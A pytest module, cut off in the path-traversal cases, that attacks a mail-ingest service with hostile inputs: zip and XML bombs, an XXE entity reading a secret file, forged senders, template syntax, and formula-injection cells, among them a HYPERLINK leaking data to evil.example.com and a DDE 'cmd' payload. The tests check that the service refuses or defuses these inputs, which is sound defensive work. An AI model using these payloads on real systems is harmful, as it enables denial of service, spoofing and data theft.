"""Hostile input through the whole ingest path, and through `anupalan inspect`.

Every case delivers what an attacker (or a badly broken mail program) could
send to the office's mailbox, runs one cycle of the service on a real Maildir,
archive and SQLite store, and checks what a user would see: the message held
for review with a reason, the file refused with a reason, or the values
stored as text. No exception may escape `run_once`, and no message may fail
to be stored (a failed message is retried at every poll and never answered).

Figures go to tests/figures.py under "hostile input": the inputs tried per
category, the exceptions that escaped (0) and the formulas written (0).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import struct
import time
import zipfile
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path

import markupsafe
import openpyxl
import pytest
from conftest import ZONE_CONFIG, Zone, at
from defusedxml import DefusedXmlException
from figures import record
from service_process import anupalan

from daemon.adapters.spreadsheets import read_attachment
from daemon.bootstrap import App, build_app
from daemon.core.mime import parse_message
from daemon.errors import UnreadableFile
from daemon.services.cycle import CycleReport, run_once
from daemon.services.ingest import DAMAGED_MAIL
from daemon.services.notify import preview
from daemon.services.report import build_report
from daemon.services.review import assign
from daemon.testing import ods_package, officers, reply_message, report_xlsx

GROUP = "hostile input"
SUBJECT = "Emerging Technologies Level-1 report"
NORTH = "ccu-chennai-north@example.gov.in"
ATTACKER = "attacker@example.com"
NOW = at(22)
DAMAGED = "the file is damaged and could not be opened; please save it again and resend"
LIMITS = """\
limits:
  max_attachment_mb: 1
  max_uncompressed_mb: 8
  max_cells: 20000
  max_files_in_archive: 50
"""


class Tally:
    """What the hostile cases tried, and what went wrong, for the figures."""

    def __init__(self) -> None:
        self.tried: Counter[str] = Counter()
        self.escaped = 0
        self.formulas = 0
        self.formula_cells = 0


TALLY = Tally()


@pytest.fixture(scope="module", autouse=True)
def _figures() -> Iterator[None]:
    yield
    for category, count in TALLY.tried.items():
        record(f"inputs tried: {category}", count, group=GROUP)
    record("exceptions that escaped ingest or run_once", TALLY.escaped, group=GROUP)
    record(
        "cells beginning with = + - @ in the consolidated workbook (all text)",
        TALLY.formula_cells,
        group=GROUP,
    )
    record("formulas written to the consolidated workbook", TALLY.formulas, group=GROUP)


@pytest.fixture
def app(zone: Zone) -> Iterator[App]:
    """The zone with small limits, so that bombs need not be large to go off."""
    zone.config_path.write_text(ZONE_CONFIG + LIMITS, encoding="utf-8")
    application = build_app(zone.config)
    yield application
    application.close()


def cycle(zone: Zone, app: App, category: str, *raws: bytes) -> CycleReport:
    """Deliver the messages and run one cycle; nothing may escape, nothing may fail.

    The messages are counted as inputs tried under `category`; a good report sent
    to show the service goes on is not (`category` empty).
    """
    if category:
        TALLY.tried[category] += len(raws)
    zone.deliver(*raws)
    try:
        report = run_once(app, NOW)
    except Exception:
        TALLY.escaped += 1
        raise
    failed = [r for r in report.ingested if r.outcome == "failed"]
    TALLY.escaped += len(failed)
    assert failed == [], [r.reason for r in failed]
    assert report.poll_error is None
    assert len(report.ingested) == len(raws)
    return report


def reason_of(app: App, key: str) -> str:
    stored = app.store.message(key)
    assert stored is not None and stored.outcome == "needs_review", stored
    assert stored.reason
    return stored.reason


def counted(app: App) -> list[str]:
    return sorted(s.unit_id for s in app.store.submissions("emerging-tech-l1"))


def report_mail(
    sender: bytes = NORTH.encode(),
    attachments: Sequence[tuple[str, bytes]] = (),
    *,
    subject: bytes = SUBJECT.encode(),
    headers: bytes = b"",
    message_id: str | None = None,
) -> bytes:
    """A unit's reply with the From and Subject written byte for byte as given.

    `headers` are put on top, where a delivering server writes Return-Path.
    """
    raw = reply_message(
        "placeholder@example.invalid",
        "placeholder subject",
        list(attachments) or [("Format.xlsx", REPORT)],
        message_id=message_id,
    )
    raw = raw.replace(b"From: placeholder@example.invalid", b"From: " + sender, 1)
    raw = raw.replace(b"Subject: placeholder subject", b"Subject: " + subject, 1)
    return headers + raw


def forward(
    inner: bytes, sender: str = "compliance-cell@example.gov.in", headers: str = ""
) -> bytes:
    """An administrator's forward of `inner`, attached as a message."""
    return (
        (
            f"{headers}From: {sender}\nTo: compliance-cell@example.gov.in\n"
            f"Subject: Fwd: {SUBJECT}\n"
            'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="fwd"\n\n'
            "--fwd\nContent-Type: text/plain\n\nForwarded to the cell.\n"
            "--fwd\nContent-Type: message/rfc822\n\n"
        ).encode()
        + inner
        + b"\n--fwd--\n"
    )


def csv_bytes(rows: Sequence[Sequence[object]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(
        ["Sl. No", "Employee Code", "Name of the Officer", "Designation", "Contact No", "Email ID"]
    )
    writer.writerows([i, *row] for i, row in enumerate(rows, start=1))
    return out.getvalue().encode("utf-8")


def zipped(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


REPORT = report_xlsx(officers(3))
CSV_REPORT = csv_bytes(officers(3))


# --- zip bombs ---------------------------------------------------------------------------------


def nested_zip(levels: int) -> bytes:
    data = zipped(("report.csv", CSV_REPORT))
    for level in range(levels):
        data = zipped((f"level{level}.zip", data))
    return data


def ratio_bomb(megabytes: int = 64) -> bytes:
    """A .zip of a few dozen kilobytes that unpacks to `megabytes` of zeros."""
    return zipped(("report.csv", bytes(megabytes * 1024 * 1024)))


def xlsx_ratio_bomb(megabytes: int = 64) -> bytes:
    """A real workbook with a sheet padded with `megabytes` of white space."""
    source = zipfile.ZipFile(io.BytesIO(REPORT))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (megabytes << 20), 1)
            archive.writestr(info.filename, data)
    return out.getvalue()


def lying_zip(megabytes: int = 32) -> bytes:
    """A .zip whose member says it unpacks to 100 bytes but holds `megabytes` of zeros."""
    data = bytearray(zipped(("report.csv", bytes(megabytes << 20))))
    real = megabytes << 20
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = data.index(signature)
        assert struct.unpack_from("<I", data, start + size_at)[0] == real
        struct.pack_into("<I", data, start + size_at, 100)
    return bytes(data)


def many_members(count: int = 5000) -> bytes:
    return zipped(*((f"part{i}.csv", b"a,b\r\n") for i in range(count)))


def overlapping_zip(entries: int = 40, megabytes: int = 4) -> bytes:
    """Many directory entries for one compressed member, each declaring its full size."""
    single = zipped(("r00.csv", bytes(megabytes << 20)))
    directory = single.index(b"PK\x01\x02")
    end = single.index(b"PK\x05\x06")
    entry = single[directory:end]
    entries_bytes = b"".join(
        entry.replace(b"r00.csv", f"r{i:02d}.csv".encode()) for i in range(entries)
    )
    record_end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(entries_bytes), directory, 0
    )
    return single[:directory] + entries_bytes + record_end


def test_zip_bombs_are_refused_with_a_reason_and_the_service_goes_on(zone: Zone, app: App) -> None:
    bombs = {
        "nested.zip": nested_zip(20),
        "ratio.zip": ratio_bomb(),
        "sheet.xlsx": xlsx_ratio_bomb(),
        "lying.zip": lying_zip(),
        "many.zip": many_members(),
        "overlapping.zip": overlapping_zip(),
    }
    assert all(len(data) < 1024 * 1024 for data in bombs.values())  # under the attachment limit
    raws = {
        name: report_mail(attachments=[(name, data)], message_id=f"<{name}@example.gov.in>")
        for name, data in bombs.items()
    }
    started = time.monotonic()
    report = cycle(zone, app, "zip bombs", *raws.values())
    assert time.monotonic() - started < 30
    reasons = {name: reason_of(app, f"<{name}@example.gov.in>") for name in bombs}
    assert "nested too deep in other .zip files" in reasons["nested.zip"]
    assert "too large once unpacked (64 MB; the limit is 8 MB)" in reasons["ratio.zip"]
    assert "the limit is 8 MB" in reasons["sheet.xlsx"] or "too large" in reasons["sheet.xlsx"]
    assert reasons["lying.zip"] == f"lying.zip/report.csv: {DAMAGED}"
    assert "holds more than 50 files" in reasons["many.zip"]
    assert "too large once unpacked (160 MB; the limit is 8 MB)" in reasons["overlapping.zip"]
    assert counted(app) == []
    # The unit is told why, in a rejection naming the file.
    rejections = [d for d in report.queued if d.mail.kind == "rejection"]
    assert len(rejections) == len(bombs)
    assert all(d.mail.recipients == (NORTH,) for d in rejections)
    assert all(any(name in d.text for name in bombs) for d in rejections)
    # and the next report is read as ever
    [good] = cycle(zone, app, "", report_mail()).ingested
    assert (good.outcome, good.rows) == ("accepted", 3)


def test_a_zip_member_without_a_name_is_passed_over(zone: Zone, app: App) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(""), CSV_REPORT)  # zipfile's is_dir() fails on it
        archive.writestr("report.csv", CSV_REPORT)
    [result] = cycle(
        zone, app, "zip bombs", report_mail(attachments=[("odd.zip", out.getvalue())])
    ).ingested
    assert (result.outcome, result.rows) == ("accepted", 3)


# --- XML bombs ---------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)


def external_entity(path: Path) -> str:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{path}">]>'


def with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
    """The XML with a DOCTYPE after its declaration and `reference` as its first text."""
    text = xml.decode("utf-8")
    prolog = text.index("?>") + 2 if text.startswith("<?xml") else 0
    text = text[:prolog] + doctype + text[prolog:]
    for opening in ("<t>", '<t xml:space="preserve">', "<text:p>"):
        if opening in text:
            text = text.replace(opening, opening + reference, 1)
            break
    else:
        text = text.replace("<sheetData>", "<sheetData>" + reference, 1)
    return text.encode("utf-8")


def xlsx_with(part: str, doctype: str, reference: str) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(REPORT))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == part:
                data = with_doctype(data, doctype, reference)
            archive.writestr(info.filename, data)
    return out.getvalue()


ODS_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def ods_report(doctype: str = "", reference: str = "") -> bytes:
    """An .ods report as Calc writes one, optionally with a DOCTYPE and an entity in a cell."""

    def cells(*values: object) -> str:
        cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
        return f"<table:table-row>{''.join(cell.format(v) for v in values)}</table:table-row>"

    header = (
        "Sl. No",
        "Employee Code",
        "Name of the Officer",
        "Designation",
        "Contact No",
        "Email ID",
    )
    rows = [cells(*header)] + [cells(i, *row) for i, row in enumerate(officers(3), start=1)]
    rows[1] = rows[1].replace("<text:p>1</text:p>", f"<text:p>1{reference}</text:p>", 1)
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        f"<office:document-content {ODS_NAMESPACES}><office:body><office:spreadsheet>"
        f'<table:table table:name="Sheet1">{"".join(rows)}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return ods_package(content)


def xml_bombs(secret: Path) -> dict[str, bytes]:
    xxe = external_entity(secret)
    return {
        "laughs-sheet.xlsx": xlsx_with("xl/worksheets/sheet1.xml", LAUGHS, "&lol9;"),
        "laughs-workbook.xlsx": xlsx_with("xl/workbook.xml", LAUGHS, ""),
        "xxe-sheet.xlsx": xlsx_with("xl/worksheets/sheet1.xml", xxe, "&xxe;"),
        "xxe-types.xlsx": xlsx_with("[Content_Types].xml", xxe, ""),
        "laughs.ods": ods_report(LAUGHS, "&lol9;"),
        "xxe.ods": ods_report(xxe, "&xxe;"),
    }


def test_a_valid_ods_report_is_read_so_the_bombs_below_are_refused_for_their_xml() -> None:
    assert ods_report().startswith(b"PK")
    [workbook] = read_attachment(ods_report(), "r.ods")
    assert workbook.sheets[0].rows[1].cells[2] == officers(3)[0][1]


def test_xml_bombs_are_refused_by_defusedxml_and_the_file_rejected_with_a_reason(
    zone: Zone, app: App, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a", encoding="utf-8")
    bombs = xml_bombs(secret)
    # defusedxml refuses them where it parses: openpyxl's sheet reader, and the .ods reader.
    for name in ("laughs-sheet.xlsx", "xxe-sheet.xlsx"):
        with pytest.raises(ValueError) as failed:  # openpyxl's wrapping of the parser's error
            openpyxl.load_workbook(io.BytesIO(bombs[name]))
        assert isinstance(failed.value.__cause__ or failed.value.__context__, DefusedXmlException)
    for name in ("laughs.ods", "xxe.ods"):
        with pytest.raises(UnreadableFile) as refused:
            read_attachment(bombs[name], name)
        assert refused.value.reason == DAMAGED
        assert isinstance(refused.value.__cause__, DefusedXmlException), name
    # A workbook part with a DTD is refused before openpyxl sees it, whichever XML parser
    # openpyxl uses for that part (with lxml installed, not defusedxml).
    for name in bombs:
        with pytest.raises(UnreadableFile) as refused:
            read_attachment(bombs[name], name)
        assert refused.value.reason == DAMAGED
    raws = [
        report_mail(attachments=[(name, data)], message_id=f"<{name}@example.gov.in>")
        for name, data in bombs.items()
    ]
    started = time.monotonic()
    cycle(zone, app, "XML bombs", *raws)
    assert time.monotonic() - started < 20
    for name in bombs:
        assert reason_of(app, f"<{name}@example.gov.in>") == f"{name}: {DAMAGED}"
    assert counted(app) == []
    stored = json.dumps([m.reason for m in app.store.messages()])
    outbox = b"".join(p.read_bytes() for p in (zone.root / "outbox").rglob("*") if p.is_file())
    assert "TOP-SECRET" not in stored and b"TOP-SECRET" not in outbox


# --- huge attachments --------------------------------------------------------------------------


def test_an_attachment_over_the_limit_is_refused_without_being_read(zone: Zone, app: App) -> None:
    big = CSV_REPORT + b"9,40199,Padding,Clerk,9876543210,p@example.gov.in\r\n" * 30_000
    assert 1.4 * 1024 * 1024 < len(big) < 2 * 1024 * 1024
    raws = [
        report_mail(attachments=[("big.csv", big)], message_id="<big@example.gov.in>"),
        forward(report_mail(attachments=[("forwarded.csv", big)])),
    ]
    [direct, forwarded] = cycle(zone, app, "huge attachments", *raws).ingested
    assert reason_of(app, direct.key) == (
        "big.csv: the file is too large (1.5 MB; the limit is 1 MB);"
        " please send only the report sheet"
    )
    assert forwarded.outcome == "needs_review" and "forwarded.csv: the file is too large" in (
        reason_of(app, forwarded.key)
    )
    assert counted(app) == []


# --- deeply nested MIME ------------------------------------------------------------------------


def nested_multipart(levels: int, attachment: bytes = REPORT) -> bytes:
    head = (
        f"From: {NORTH}\r\nTo: compliance-cell@example.gov.in\r\nSubject: {SUBJECT}\r\n"
        f"Message-ID: <nested-{levels}@example.gov.in>\r\nMIME-Version: 1.0\r\n"
    ).encode()
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
        for i in range(levels)
    )
    leaf = (
        b"Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n"
        b'Content-Disposition: attachment; filename="Format.xlsx"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(attachment) + b"\r\n"
    )
    closing = b"".join(b"--b%d--\r\n" % i for i in reversed(range(levels)))
    return head + opening + leaf + closing


def nested_forwards(levels: int) -> bytes:
    inner = report_mail()
    for level in range(levels):
        inner = (
            f"From: {NORTH}\r\nSubject: Fwd: {SUBJECT} ({level})\r\n"
            f"Message-ID: <forward-{levels}-{level}@example.gov.in>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
        ).encode() + inner
    return inner


def test_deeply_nested_mime_is_walked_or_held_never_a_crash(zone: Zone, app: App) -> None:
    raws = [nested_multipart(500), nested_multipart(3000), nested_forwards(500)]
    started = time.monotonic()
    report = cycle(zone, app, "nested MIME", *raws)
    assert time.monotonic() - started < 30
    outcomes = {r.key: r for r in report.ingested}
    # 500 levels of multipart: the report at the bottom is found and counted.
    deep = outcomes["<nested-500@example.gov.in>"]
    assert (deep.outcome, deep.unit_id, deep.rows) == ("accepted", "chennai-north", 3)
    # Deeper than the parser is let go, or forwarded beyond ten levels: held, with a reason.
    assert reason_of(app, "<nested-3000@example.gov.in>") == DAMAGED_MAIL
    assert reason_of(app, "<forward-500-499@example.gov.in>") == (
        "no report was attached, nor pasted as a table in the mail"
    )
    assert counted(app) == ["chennai-north"]


def test_a_mail_nested_thousands_deep_is_held_as_unreadable_keeping_its_sender(
    zone: Zone, app: App
) -> None:
    raw = nested_multipart(20_000, attachment=b"x")
    started = time.monotonic()
    mail = parse_message(raw)
    assert time.monotonic() - started < 5  # minutes, before the boundaries were counted first
    assert (mail.from_address, mail.subject, mail.damaged) == (NORTH, SUBJECT, True)
    report = cycle(zone, app, "nested MIME", raw)
    [result] = report.ingested
    assert (result.outcome, result.from_address) == ("needs_review", NORTH)
    assert reason_of(app, result.key) == DAMAGED_MAIL
    # The unit is asked to send its report again.
    [rejection] = [d for d in report.queued if d.mail.kind == "rejection"]
    assert "could not be read" in rejection.text and rejection.mail.recipients == (NORTH,)


# --- malformed and non-UTF-8 headers -----------------------------------------------------------


def test_malformed_headers_are_read_as_far_as_they_go(zone: Zone, app: App) -> None:
    raws = {
        "8bit": report_mail(
            b"R\xe9ddy \xff\xfe <" + NORTH.encode() + b">",
            subject=SUBJECT.encode() + b" caf\xe9 \xff\x80",
        ),
        "rfc2047": report_mail(
            b"=?utf-8?q?broken <" + NORTH.encode() + b">",
            subject=b"=?utf-8?b?####?= " + SUBJECT.encode() + b" =?x-unknown?q?abc?= =?utf-8?q?=ZZ",
        ),
        "duplicates": report_mail().replace(
            b"Subject: ",
            b"Subject: something else\nMessage-ID: <dup@example.gov.in>\nDate: yesterday\n"
            b"Date: 99 Foo 99999 99:99:99 +9999\nSubject: ",
            1,
        ),
        "long-subject": report_mail(subject=SUBJECT.encode() + b" " + b"A" * 100_000),
        "long-header": report_mail(headers=b"X-Padding: " + b"x " * 50_000 + b"\n"),
        "binary-header": report_mail(headers=b"X-Binary: \x00\x01\xff\xfe\x1b[2J\x7f\n"),
        "content-type": report_mail().replace(
            b"Content-Type: multipart/mixed;",
            b"Content-Type: multipart/mixed; x=" + b"(" * 50_000 + b'"' * 50_000 + b";",
            1,
        ),
        "no-from": report_mail().replace(b"From: " + NORTH.encode() + b"\n", b"", 1),
        "quotes-from": report_mail(b'"' * 100_000),
        "comments-from": report_mail(b"(" * 100_000 + NORTH.encode()),
        "no-colon": report_mail(headers=b"this line has no colon\n"),
    }
    keys = {name: parse_message(raw).key for name, raw in raws.items()}
    started = time.monotonic()
    report = cycle(zone, app, "malformed headers", *raws.values())
    assert time.monotonic() - started < 30  # minutes, before headers were read only so far
    results = {r.key: r for r in report.ingested}
    for name in ("8bit", "rfc2047", "duplicates", "long-subject", "long-header", "binary-header"):
        accepted = results[keys[name]]
        assert (accepted.outcome, accepted.unit_id, accepted.rows) == (
            "accepted",
            "chennai-north",
            3,
        ), name
    assert keys["duplicates"] == "<dup@example.gov.in>"  # the first of each header counts
    stored = app.store.message(keys["8bit"])
    assert stored is not None and stored.subject.startswith(SUBJECT)
    for name in ("no-from", "quotes-from", "comments-from", "no-colon"):
        assert reason_of(app, keys[name]) == "sender (no address) matches no unit", name
    assert results[keys["content-type"]].outcome in ("accepted", "needs_review")
    for message in app.store.messages():
        assert len(message.subject) <= 4096
        message.subject.encode("utf-8")  # storable: no lone surrogates
    # Everything is stored, so a second cycle has nothing to do.
    assert run_once(app, NOW).ingested == []


def test_thousands_of_recipients_change_nothing_and_the_answer_goes_to_the_unit_only(
    zone: Zone, app: App
) -> None:
    crowd = ", ".join(f"officer{i}@example.gov.in" for i in range(3000)).encode()
    raw = report_mail(headers=b"To: " + crowd + b"\nCc: " + crowd + b"\n")
    report = cycle(zone, app, "recipients", raw)
    [result] = report.ingested
    assert (result.outcome, result.rows) == ("accepted", 3)
    [ack] = [d for d in report.queued if d.mail.kind == "ack"]
    assert ack.mail.recipients == (NORTH,)


def html_mail(sender: str, html: str) -> bytes:
    """A mail whose only body is HTML, as some mail programs send."""
    return (
        f"From: {sender}\nTo: compliance-cell@example.gov.in\nSubject: {SUBJECT}\n"
        "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
    ).encode() + html.encode()


def test_bodies_and_files_built_to_stall_the_readers_are_read_in_time(zone: Zone, app: App) -> None:
    padded = reply_message(
        "stranger@example.com",
        SUBJECT,
        [("Format.xlsx", REPORT)],
        body="Chennai North CHN North Coimbatore Audit " * 40_000,  # 1.6 MB of unit names
    )
    raws = [
        padded,
        html_mail(NORTH, "<table><tr><td>" + "<td " * 200_000),  # tags never closed
        html_mail(NORTH, "<p>" + "<script" * 150_000 + "<table>"),
        html_mail("stranger@example.com", "<" * 800_000),
        report_mail(attachments=[("quotes.csv", b',"' * 400_000)]),  # the delimiter sniffer
    ]
    keys = [parse_message(raw).key for raw in raws]
    started = time.monotonic()
    cycle(zone, app, "stalling bodies and files", *raws)
    assert time.monotonic() - started < 30  # hours, before each reader was made linear
    held = app.store.message(keys[0])
    assert held is not None and held.suggested_unit is None  # three units named: no guess
    assert reason_of(app, keys[0]) == "sender stranger@example.com matches no unit"
    for key in keys[1:]:
        assert reason_of(app, key)
    assert counted(app) == []


# --- who sent it -------------------------------------------------------------------------------


FORGERIES: dict[str, bytes] = {
    # The display name is a unit's address; the mailbox is the attacker's.
    "display-name": report_mail(f"{NORTH} <{ATTACKER}>".encode()),
    "quoted-display-name": report_mail(f'"{NORTH}" <{ATTACKER}>'.encode()),
    "encoded-display-name": report_mail(
        b"=?utf-8?q?ccu-chennai-north=40example=2Egov=2Ein?= <" + ATTACKER.encode() + b">"
    ),
    "two-angles": report_mail(f"Chennai North <{NORTH}> <{ATTACKER}>".encode()),
    "address-after-angle": report_mail(f"<{NORTH}>@evil.example.com".encode()),
    "parser-confusion": report_mail(f"{ATTACKER})<{NORTH}>".encode()),
    "two-addresses": report_mail(f"{NORTH}, {ATTACKER}".encode()),
    "two-from-headers": report_mail(headers=f"From: {ATTACKER}\n".encode()),
    "reply-to": report_mail(headers=f"Reply-To: Chennai North <{ATTACKER}>\n".encode()),
    "envelope": report_mail(headers=f"Return-Path: <{ATTACKER}>\n".encode()),
    "forwarded-envelope": report_mail(
        headers=b"Return-Path: <SRS0=x1Yz=7K=example.com=attacker@relay.example.org>\n"
    ),
}


@pytest.mark.parametrize("kind", FORGERIES)
def test_a_forged_sender_is_held_for_review_and_never_counted(
    zone: Zone, app: App, kind: str
) -> None:
    report = cycle(zone, app, "forged senders", FORGERIES[kind])
    [result] = report.ingested
    assert result.outcome == "needs_review"
    assert result.unit_id is None
    assert counted(app) == []
    reason = reason_of(app, result.key)
    if result.from_address == ATTACKER:
        assert reason == f"sender {ATTACKER} matches no unit"
    else:
        assert result.from_address == NORTH
        assert "check that it really comes from Chennai North" in reason
        assert "attacker" in reason or "evil.example.com" in reason
        held = app.store.message(result.key)
        assert held is not None and held.suggested_unit == "chennai-north"
    # Nobody is answered: neither the unit, who did not write, nor the forger.
    assert [d for d in report.queued if d.mail.kind in ("ack", "rejection")] == []
    # It stays held, cycle after cycle, until an administrator decides.
    assert run_once(app, NOW).ingested == []
    assert counted(app) == []


def test_an_administrator_may_count_a_held_forgery_after_checking_it(zone: Zone, app: App) -> None:
    [result] = cycle(zone, app, "forged senders", FORGERIES["reply-to"]).ingested
    assigned = assign(app, result.key, "chennai-north")
    assert (assigned.outcome, assigned.rows) == ("accepted", 3)
    assert counted(app) == ["chennai-north"]


def test_genuine_envelope_and_reply_to_addresses_are_not_taken_for_forgery(
    zone: Zone, app: App
) -> None:
    raws = [
        report_mail(headers=b"Return-Path: <bounces+x1@mail.example.gov.in>\n"),
        report_mail(headers=f"Return-Path: <{NORTH}>\nReply-To: clerk@example.gov.in\n".encode()),
        report_mail(b'"Selvam, R." <' + NORTH.encode() + b">"),
        report_mail(b"Selvam, R. <" + NORTH.encode() + b">"),
        report_mail(f"{NORTH} (Chennai North)".encode()),
        report_mail(headers=b"Return-Path: <>\n"),
        report_mail(  # forwarded on the way, by a server that rewrites the envelope (SRS)
            headers=b"Return-Path: <SRS0=x1Yz=7K=example.gov.in=ccu-chennai-north"
            b"@relay.example.org>\n"
        ),
        report_mail(headers=b"Return-Path: <compliance-cell@example.gov.in>\n"),
    ]
    results = cycle(zone, app, "genuine senders that look odd", *raws).ingested
    assert [(r.outcome, r.unit_id) for r in results] == [("accepted", "chennai-north")] * len(raws)


def test_a_forged_administrator_forward_is_held(zone: Zone, app: App) -> None:
    genuine, forged = (
        forward(report_mail()),
        forward(report_mail(), headers=f"Return-Path: <{ATTACKER}>\n"),
    )
    [counted_forward] = cycle(zone, app, "genuine senders that look odd", genuine).ingested
    assert (counted_forward.outcome, counted_forward.unit_id) == ("accepted", "chennai-north")
    [result] = cycle(zone, app, "forged senders", forged).ingested
    assert result.outcome == "needs_review"
    assert "check that it really comes from the administrator" in reason_of(app, result.key)
    assert len(app.store.submissions("emerging-tech-l1")) == 1


# --- formulas and control characters in cells --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def formula_rows() -> list[tuple[object, ...]]:
    rows: list[tuple[object, ...]] = []
    for i, text in enumerate(FORMULAS):
        rows.append((text, f"{text} name", text, f"9{i}00000001", f"{text}@example.gov.in"))
    rows.append(("40199", "R.\x07 Sel\x1bvam\x08", "Inspec\x0btor\x0c", "9876543210", "a@b.gov.in"))
    return rows


def written_formulas(path: Path) -> int:
    """How many formulas a workbook holds, counted in the XML of its sheets."""
    with zipfile.ZipFile(path) as archive:
        return sum(
            len(re.findall(rb"<(?:\w+:)?f[\s>/]", archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_formulas_and_control_characters_in_cells_are_stored_and_written_as_text(
    zone: Zone, app: App, tmp_path: Path
) -> None:
    raws = [
        report_mail(attachments=[("formulas.csv", csv_bytes(formula_rows()))]),
        report_mail(
            b"ccu-chennai-south@example.gov.in",
            attachments=[("formulas.xlsx", report_xlsx(formula_rows()[:-1]))],
        ),
    ]
    results = cycle(zone, app, "formula cells", *raws).ingested
    assert [r.outcome for r in results] == ["accepted", "accepted"]
    stored = {row.name for s in app.store.submissions("emerging-tech-l1") for row in s.rows}
    for text in FORMULAS:
        assert f"{text} name" in stored  # as text, as written
    assert "R. Selvam" in stored  # control characters removed, white space collapsed
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
    rows = [row for s in app.store.submissions("emerging-tech-l1") for row in s.rows]
    for row in rows:
        for value in (row.employee_code, row.name, row.designation):
            assert value is None or not control.search(value)

    out = tmp_path / "zonal.xlsx"
    build_report(app.config, app.store, app.config.campaign(), out)
    formulas = written_formulas(out)
    TALLY.formulas += formulas
    assert formulas == 0
    workbook = openpyxl.load_workbook(out)
    values = []
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not control.search(cell.value)
                    if cell.value[:1] in "=+-@":
                        TALLY.formula_cells += 1
                        assert cell.quotePrefix
    for text in FORMULAS:
        assert f"{text} name" in values
        assert text in values  # the employee codes, as text


# --- template syntax ---------------------------------------------------------------------------

PAYLOAD = "{{ 7*7 }}{% if true %}X{% endif %}{# c #} <i>&amp;</i> ${HOME}"


def test_template_syntax_in_names_subjects_and_cells_is_never_evaluated(zone: Zone) -> None:
    config = ZONE_CONFIG.replace(
        "name: Chennai North,", "name: " + json.dumps("Chennai North " + PAYLOAD) + ","
    ).replace("${HOME}", "$${HOME}")
    zone.config_path.write_text(config, encoding="utf-8")
    assert PAYLOAD in zone.config.unit("chennai-north").name
    app = build_app(zone.config)
    try:
        bad_mobile = [("40101", "R. Selvam", "Inspector", PAYLOAD, "r@example.gov.in")]
        raws = [
            report_mail(
                subject=f"{SUBJECT} {PAYLOAD}".encode(),
                attachments=[(f"{PAYLOAD}.csv", csv_bytes(bad_mobile))],
            ),
            report_mail(
                b"stranger@example.com",
                subject=f"{SUBJECT} {PAYLOAD}".encode(),
                message_id="<stranger@example.com>",
            ),
        ]
        report = cycle(zone, app, "template syntax", *raws)
        [ack] = [d for d in report.queued if d.mail.kind == "ack"]
        digest = preview(app, app.config.campaign(), "digest", None, NOW)
        escaped = str(markupsafe.escape(PAYLOAD))
        for mail in (ack, digest):
            assert PAYLOAD in mail.text
            assert escaped in mail.html and PAYLOAD not in mail.html
            assert "<i>" not in mail.html
        assert PAYLOAD in (ack.mail.subject or "")  # the unit's name, as written
        assert f"Contact No '{PAYLOAD}'" in ack.text  # the cell, quoted in the problem
        assert f"{SUBJECT} {PAYLOAD}" in digest.text  # the held mail's subject
    finally:
        app.close()


# --- path traversal in file names --------------------------------------------------------------


def named(raw: bytes, disposition: bytes) -> bytes:
    """The mail with its attachment's file name replaced by a raw Content-Disposition value."""
    return raw.replace(b'attachment; filename="Format.xlsx"', disposition, 1)


def test_file_names_never_lead_anything_outside_the_archive(zone: Zone, app: App) -> None:
    token = hashlib.sha256(str(zone.root).encode()).hexdigest()[:12]
    names = [
        f'attachment; filename="../../../{token}-a.xlsx"',
        f'attachment; filename="/tmp/{token}-b.xlsx"',
        f'attachment; filename="..\\\\..\\\\{token}-c.xlsx"',
